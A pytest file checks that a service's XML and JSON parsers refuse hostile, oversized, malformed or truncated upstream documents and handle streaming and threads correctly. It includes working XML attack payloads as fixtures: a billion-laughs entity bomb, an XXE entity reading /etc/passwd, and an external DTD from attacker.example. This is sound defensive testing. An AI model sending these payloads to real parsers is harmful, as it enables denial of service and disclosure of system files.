"""The upstream parsers refuse hostile or oversized documents instead of expanding them."""

from __future__ import annotations

from concurrent.futures import ThreadPoolExecutor

import pytest

from service.errors import BadUpstream
from service.netflix.netflix_json import parse_json
from service.netflix.xml import StreamParser, UnsafeXml, parse_xml

LIMIT = 1_000_000

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<status><message>&lol9;</message></status>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE status [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<status><message>&xxe;</message></status>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE status SYSTEM "http://attacker.example/evil.dtd">
<status><message>hi</message></status>"""


@pytest.mark.parametrize(
    "body", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, b"<!-- x --><!doctype status><status/>"]
)
def test_documents_with_a_dtd_are_refused(body: bytes) -> None:
    with pytest.raises(UnsafeXml):
        parse_xml(body, max_bytes=LIMIT)


def test_refusal_is_a_bad_upstream_error() -> None:
    with pytest.raises(BadUpstream, match="DTD"):
        parse_xml(EXTERNAL_ENTITY, max_bytes=LIMIT)


def test_oversized_bodies_are_refused_before_parsing() -> None:
    body = b"<status><message>" + b"x" * 2000 + b"</message></status>"
    with pytest.raises(BadUpstream, match="exceeds"):
        parse_xml(body, max_bytes=1000)
    assert parse_xml(body, max_bytes=len(body)).child_text("message") == "x" * 2000


@pytest.mark.parametrize(
    "body", [b"", b"<status>", b"<status><message>cut", b"not xml", b"<a></b>"]
)
def test_malformed_or_truncated_xml_is_a_bad_upstream(body: bytes) -> None:
    with pytest.raises(BadUpstream):
        parse_xml(body, max_bytes=LIMIT)


def test_ordinary_documents_with_prolog_comments_and_cdata_parse() -> None:
    body = (
        b'<?xml version="1.0" standalone="yes"?>\n<!-- note -->\n'
        b"<synopsis><![CDATA[<b>Bold</b> &amp; more]]></synopsis>"
    )
    assert parse_xml(body, max_bytes=LIMIT).text() == "<b>Bold</b> &amp; more"


@pytest.mark.parametrize("body", [b"{", b"[]", b'{"a": 1, "b": 2}', b'"text"', b"\xff"])
def test_json_that_is_not_one_rooted_document_is_a_bad_upstream(body: bytes) -> None:
    with pytest.raises(BadUpstream):
        parse_json(body, max_bytes=LIMIT)


def test_oversized_json_is_refused() -> None:
    with pytest.raises(BadUpstream, match="exceeds"):
        parse_json(b'{"status": {"message": "' + b"x" * 100 + b'"}}', max_bytes=50)


def test_the_parser_reused_after_a_refusal_or_an_error_reads_the_next_document() -> None:
    for bad in (EXTERNAL_ENTITY, b"<status><message>cut", b"<a></b>"):
        with pytest.raises(BadUpstream):
            parse_xml(bad, max_bytes=LIMIT)
        assert (
            parse_xml(b"<status><message>ok</message></status>", max_bytes=LIMIT).child_text(
                "message"
            )
            == "ok"
        )
    with pytest.raises(UnsafeXml):
        parse_xml(BILLION_LAUGHS, max_bytes=LIMIT)


def test_threads_parsing_at_once_each_read_their_own_document() -> None:
    def read(n: int) -> list[str | None]:
        body = b"<index>" + _items(200 + n % 7) + b"</index>"
        return [doc.child_text("id") for doc in parse_xml(body, max_bytes=LIMIT).children("item")]

    with ThreadPoolExecutor(max_workers=4) as pool:
        for n, ids in enumerate(pool.map(read, range(40))):
            assert ids == [str(i) for i in range(200 + n % 7)]


def _items(n: int) -> bytes:
    return b"".join(b"<item><id>%d</id></item>" % i for i in range(n))


def test_stream_parser_yields_items_across_chunk_boundaries() -> None:
    body = b'<?xml version="1.0"?><index>' + _items(50) + b"</index>"
    parser = StreamParser("item")
    seen: list[str | None] = []
    for start in range(0, len(body), 7):
        seen.extend(doc.child_text("id") for doc in parser.feed(body[start : start + 7]))
    seen.extend(doc.child_text("id") for doc in parser.close())
    assert seen == [str(i) for i in range(50)]


def test_stream_parser_refuses_a_dtd_split_over_chunks() -> None:
    parser = StreamParser("message")
    with pytest.raises(UnsafeXml):
        for start in range(0, len(BILLION_LAUGHS), 5):
            list(parser.feed(BILLION_LAUGHS[start : start + 5]))
        list(parser.close())


def test_stream_parser_reports_truncation() -> None:
    parser = StreamParser("item")
    assert len(list(parser.feed(b"<index>" + _items(3) + b"<item><id>9"))) == 3
    with pytest.raises(BadUpstream):
        list(parser.close())
